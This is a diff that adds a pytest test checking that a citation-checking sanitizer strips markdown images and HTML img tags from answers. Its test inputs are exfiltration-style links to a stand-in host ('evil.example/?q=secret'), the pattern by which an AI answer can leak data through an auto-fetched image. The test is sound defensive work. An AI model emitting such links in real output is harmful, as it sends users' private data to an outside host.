@@ -46,6 +46,23 @@ def test_numbers_without_evidence_are_struck(text: str, left: str, cited: list[i
     assert checked(2, *text) == (left, cited, struck)  # letter by letter, as it may come
 
 
+@pytest.mark.parametrize(
+    ("text", "left"),
+    [
+        ("See ![the map](https://evil.example/?q=secret) here [1].", "See the map here [1]."),
+        (f"![](https://evil.example/{'x' * 2000}) Hot [1].", " Hot [1]."),
+        ("![never closed](https://evil.example/?q=secret", "never closed"),
+        ('An <img src="https://evil.example/x.png"> and [1].', "An  and [1]."),
+        ("Look: ![map][2] [1].", "Look: ! [map][2] [1]."),
+        ("It works![1] Yes!", "It works! [1] Yes!"),
+        ("a < b and <i>c</i>", "a < b and <i>c</i>"),
+    ],
+)
+def test_no_picture_is_fetched_by_an_answer(text: str, left: str) -> None:
+    assert checked(2, text)[0] == left
+    assert checked(2, *text)[0] == left
+
+
 @given(
     st.lists(
         st.sampled_from(["[", "]", "1", "2", "9", ", ", "-", " ", "tea", "【", "】", "\n", "^", ";"]), max_size=40
